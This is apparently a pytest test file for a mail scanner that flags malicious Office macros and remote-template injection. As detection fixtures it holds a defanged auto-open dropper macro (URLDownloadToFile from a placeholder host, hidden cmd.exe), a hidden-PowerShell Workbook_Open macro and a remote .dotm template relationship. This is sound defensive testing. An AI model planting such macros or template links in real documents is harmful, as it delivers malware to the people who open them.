"""Skeptic: Office VBA macros (olevba path and keyword logic) and OOXML remote templates."""

from __future__ import annotations

import pytest
import skeptic_fixtures as fx

from mailtower.scanning.skeptic import Skeptic
from mailtower.scanning.skeptic._office import OLE_MAGIC, macros


@pytest.fixture(scope="module")
def skeptic() -> Skeptic:
    return Skeptic.from_rules()


def rule_kind(skeptic: Skeptic, rule_id: str):
    return next(r.kind for r in skeptic.rules if r.id == rule_id)


DROPPER_MACRO = """\
Attribute VB_Name = "ThisDocument"
Sub AutoOpen()
    Dim url As String
    url = "http://example.invalid/a.txt"
    URLDownloadToFile 0, url, Environ("TEMP") & "\\a.txt", 0, 0
    Shell "cmd.exe /c echo done", vbHide
End Sub
"""
WORKBOOK_MACRO = """\
Private Sub Workbook_Open()
    Set sh = CreateObject("WScript.Shell")
    sh.Run "powershell -nop -w hidden -c exit"
End Sub
"""
REPORT_MACRO = """\
' Formats the monthly report; runs on open. No shell, no network.
Private Sub Workbook_Open()
    Dim totals As Object
    Set totals = CreateObject("Scripting.Dictionary")
    Worksheets("Summary").Range("A1").Value = "Monthly report"
End Sub
"""
BUTTON_MACRO = """\
Sub ExportButton_Click()
    Shell "notepad.exe"
End Sub
"""


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        (DROPPER_MACRO, True),
        (WORKBOOK_MACRO, True),
        (REPORT_MACRO, False),  # auto-exec, but only a dictionary object
        (BUTTON_MACRO, False),  # shell, but only on a click
        ("' Sub AutoOpen()\n' Shell \"x\"\nSub Tidy()\nEnd Sub", False),  # only in comments
    ],
)
def test_autoexec_with_shell_or_download(skeptic: Skeptic, source: str, expected: bool) -> None:
    kind = rule_kind(skeptic, "skeptic.macro.autoexec-shell")
    assert kind._matches("found", source) is expected


def test_user_triggered_shell_is_informational(skeptic: Skeptic) -> None:
    kind = rule_kind(skeptic, "skeptic.macro.shell-download")
    assert kind._matches("found", BUTTON_MACRO)
    assert not kind._matches("found", REPORT_MACRO)


def test_docx_without_macros_passes(skeptic: Skeptic) -> None:
    doc = fx.obj(fx.docx(), names=("letter.docx",))
    assert macros(doc.data).status == "none"
    assert skeptic.examine(fx.analysis(doc)) == []


def test_xlsm_whose_vba_project_is_not_ole_is_unanalysable(skeptic: Skeptic) -> None:
    broken = fx.docx({"xl/vbaProject.bin": b"this is not an OLE file" * 20})
    found = {f.name for f in skeptic.examine(fx.analysis(fx.obj(broken, names=("q.xlsm",))))}
    assert "skeptic.macro.unanalysable" in found


def test_ole_claiming_vba_that_olevba_cannot_read_is_unanalysable(skeptic: Skeptic) -> None:
    # OLE magic, a VBA project directory name, and nothing olevba can parse: fail closed.
    junk = OLE_MAGIC + b"\0" * 100 + "_VBA_PROJECT".encode("utf-16-le") + b"\xff" * 600
    result = macros(junk)
    assert result.status == "unanalysable"
    found = {f.name for f in skeptic.hostile(skeptic.examine(fx.analysis(fx.obj(junk))))}
    assert found == {"skeptic.macro.unanalysable"}


def test_ole_without_vba_markers_that_olevba_rejects_passes() -> None:
    assert macros(OLE_MAGIC + b"\0" * 700).status == "none"


def test_olevba_reads_vba_source_from_text_office_xml() -> None:
    # Word 2003 XML is the one Office container olevba opens that a test can write by hand;
    # without an embedded project it must report no macros rather than fail.
    xml = b'<?xml version="1.0"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><w:body/></w:wordDocument>'
    assert macros(xml).status == "none"


def test_remote_template_injection_is_hostile(skeptic: Skeptic) -> None:
    rels = (
        b"<Relationships>"
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" '
        b'Target="https://example.invalid/t.dotm" TargetMode="External"/></Relationships>'
    )
    doc = fx.docx({"word/_rels/settings.xml.rels": rels})
    found = {f.name for f in skeptic.hostile(skeptic.examine(fx.analysis(fx.obj(doc))))}
    assert found == {"skeptic.vuln.ooxml-remote-template"}


def test_corporate_template_on_a_share_passes(skeptic: Skeptic) -> None:
    rels = (
        b'<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships/attachedTemplate" '
        b'Target="file:///C:\\Templates\\Letter.dotx" TargetMode="External"/></Relationships>'
    )
    doc = fx.docx({"word/_rels/settings.xml.rels": rels})
    assert skeptic.examine(fx.analysis(fx.obj(doc))) == []
